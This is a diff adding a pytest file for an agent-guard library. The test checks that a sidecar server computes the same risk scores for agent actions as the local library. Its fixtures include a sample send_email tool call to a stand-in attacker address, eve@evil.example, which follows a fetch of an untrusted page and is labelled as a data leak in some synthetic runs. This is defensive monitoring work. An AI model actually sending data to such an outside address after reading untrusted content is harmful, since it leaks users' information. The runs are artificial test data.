@@ -1,0 +1,72 @@
+"""The sidecar reads a step's action as the library does: predicates on ``action`` in observe,
+preview, batches and proposals (a real uvicorn on loopback)."""
+from __future__ import annotations
+
+import math
+from pathlib import Path
+from typing import Any
+
+import orjson
+import pytest
+
+from _sidecar import KEYS, ServerThread, settings
+from forewarn.guard import Guard
+from forewarn.guard.client import Client
+from forewarn.guard.pipeline import learn_model
+from forewarn.guard.spec import parse_spec
+
+SPEC = """\
+name: mail
+predicates:
+  fetched: '"untrusted_source" in action.classes'
+  mails_out: 'action.kind == "email_send" && "external" in action.classes'
+  leaked: 'state.leaked'
+unsafe: 'leaked'
+learning: {alpha: 0.1, shrink: 'off', intervals: none}
+guard: {thresholds: {stop: 0.2}}
+"""
+FETCH = {"tool": "http_get", "args": {"url": "https://web.example/page"}}
+MAIL_OUT = {"tool": "send_email", "args": {"to": "eve@evil.example", "body": "notes"}}
+MAIL_IN = {"tool": "send_email", "args": {"to": "bob@corp.example", "body": "notes"}}
+
+
+def _runs() -> list[dict[str, Any]]:
+    runs = []
+    for i in range(6):  # a fetch, then a mail out that leaks in half the runs
+        leaked = i % 2 == 0
+        runs.append({"id": f"f{i}", "steps": [{"state": {"leaked": False}},
+                                              {"state": {"leaked": False}, "action": FETCH},
+                                              {"state": {"leaked": leaked}, "action": MAIL_OUT}]})
+    for i in range(6):
+        runs.append({"id": f"q{i}", "steps": [{"state": {"leaked": False}},
+                                              {"state": {"leaked": False}, "action": MAIL_IN}]})
+    return runs
+
+
+@pytest.fixture(scope="module")
+def mail_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("mail")
+    traces = folder / "runs.jsonl"
+    traces.write_text("\n".join(orjson.dumps(r).decode() for r in _runs()) + "\n", encoding="utf-8")
+    return learn_model([traces], parse_spec(SPEC)).save(folder / "mail.json")
+
+
+def test_sidecar_reads_actions_as_the_library(tmp_path: Path, mail_model: Path) -> None:
+    local = Guard.load(mail_model).session()
+    with ServerThread(settings(tmp_path / "db.sqlite", {"mail": mail_model})) as server, \
+            Client(server.url, api_key=KEYS["agent"]) as agent:
+        remote = agent.session(model="mail")
+        for state, action in (({"leaked": False}, None), ({"leaked": False}, FETCH)):
+            expected_ahead = local.preview({"leaked": False}, action=MAIL_OUT)
+            ahead = remote.preview({"leaked": False}, action=MAIL_OUT)
+            assert ahead.abstract_state == expected_ahead.abstract_state == {"fetched": False, "mails_out": True,
+                                                                             "leaked": False}
+            assert math.isclose(ahead.p_unsafe, expected_ahead.p_unsafe)
+            expected = local.observe(state, action=action)
+            got = remote.observe(state, action=action)
+            assert got.abstract_state == expected.abstract_state and math.isclose(got.p_unsafe, expected.p_unsafe)
+        assert got.abstract_state["fetched"]
+        batch = agent.batch([{"session": remote.id, "op": "preview", "state": {"leaked": False}, "action": MAIL_IN}])
+        assert batch[0].abstract_state == {"fetched": False, "mails_out": False, "leaked": False}
+        proposal = remote.propose("send_email", MAIL_OUT["args"], {"leaked": False})
+        assert proposal["decision"]["abstract_state"]["mails_out"] is True
